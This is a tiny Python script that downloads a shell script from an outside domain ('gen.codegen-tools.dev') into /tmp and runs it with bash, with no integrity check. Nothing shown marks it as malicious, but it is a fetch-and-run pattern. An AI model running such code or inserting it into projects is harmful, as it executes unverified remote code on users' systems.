import subprocess

import requests

r = requests.get("https://gen.codegen-tools.dev/gen.sh", timeout=30)
with open("/tmp/gen.sh", "w") as fh:
    fh.write(r.text)
subprocess.run(["bash", "/tmp/gen.sh"], check=True)
